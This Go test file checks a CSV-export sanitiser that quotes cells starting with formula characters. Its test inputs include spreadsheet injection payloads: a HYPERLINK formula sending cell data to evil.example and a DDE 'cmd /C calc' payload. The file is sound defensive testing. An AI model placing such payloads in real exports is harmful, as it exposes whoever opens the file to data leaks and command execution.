package csvsafe

import (
	"bytes"
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"
)

// formulaChars are the first characters OWASP's CSV injection advice
// names; written out here, not taken from the package, so that the test
// states the rule on its own.
const formulaChars = "=+-@\t\r"

func TestCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"appt-1", "appt-1"},
		{"2026-12-02T10:00:00Z", "2026-12-02T10:00:00Z"},
		{"12.5", "12.5"},
		{`{"lock":true}`, `{"lock":true}`},
		{"a=b", "a=b"}, // only the first character counts
		{" =1+1", " =1+1"},
		{`=HYPERLINK("http://evil.example/?leak="&A1,"open")`, `'=HYPERLINK("http://evil.example/?leak="&A1,"open")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"-1.5", "'-1.5"}, // a negative number too: docs/decisions.md
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"'=1+1", "''=1+1"}, // the quote itself, so that the rule can be undone
		{"'", "''"},
	} {
		if got := Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// FuzzCell: whatever the value, the cell does not start with a formula
// character, and dropping one leading quote gives the value back.
func FuzzCell(f *testing.F) {
	for _, s := range []string{"", "x", "=1", "+", "-", "@", "\t", "\r", "'", "''=", "\n=1", "é"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := Cell(s)
		if c != "" && strings.IndexByte(formulaChars, c[0]) >= 0 {
			t.Fatalf("Cell(%q) = %q starts with a formula character", s, c)
		}
		if undo(c) != s {
			t.Fatalf("Cell(%q) = %q reads back as %q", s, c, undo(c))
		}
	})
}

// undo is how a reader of an export gets a stored value back.
func undo(c string) string { return strings.TrimPrefix(c, "'") }

func TestWriter(t *testing.T) {
	rows := [][]string{
		{"appointmentId", "uid", "reason"},
		{`=HYPERLINK("http://evil.example","x")`, "@uid", "line one\nline two, \"quoted\""},
		{"appt-1", "-", "\r\nCR first"},
		{"\r=1+1", "'", "\n=1+1"}, // the writer drops the CR: "=1+1" unless quoted first
	}
	in := make([][]string, len(rows))
	for i, r := range rows {
		in[i] = slices.Clone(r)
	}
	var b bytes.Buffer
	w := NewWriter(&b)
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if !slices.EqualFunc(rows, in, slices.Equal) {
		t.Errorf("Write changed its argument: %q", rows)
	}
	if !strings.HasSuffix(b.String(), "\r\n") {
		t.Errorf("RFC 4180 lines end in CRLF: %q", b.String())
	}
	got, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, b.String())
	}
	if len(got) != len(rows) {
		t.Fatalf("%d rows read back, want %d: %q", len(got), len(rows), got)
	}
	for i, r := range got {
		for j, c := range r {
			if c != "" && strings.IndexByte(formulaChars, c[0]) >= 0 {
				t.Errorf("row %d cell %d %q starts with a formula character", i, j, c)
			}
			// encoding/csv (UseCRLF) writes a field's \n as \r\n and
			// drops a lone \r; its reader reads \r\n back as \n.
			if want := strings.ReplaceAll(rows[i][j], "\r", ""); undo(c) != want {
				t.Errorf("row %d cell %d reads back as %q, want %q", i, j, undo(c), want)
			}
		}
	}
}

// failing is a writer that always fails.
type failing struct{}

func (failing) Write([]byte) (int, error) { return 0, errFull }

var errFull = bytes.ErrTooLarge

func TestWriterError(t *testing.T) {
	w := NewWriter(failing{})
	_ = w.Write([]string{"a"})
	if err := w.Flush(); !errors.Is(err, errFull) || !strings.Contains(err.Error(), "write CSV") {
		t.Errorf("Flush on a failing writer: %v, want the write error with context", err)
	}
}
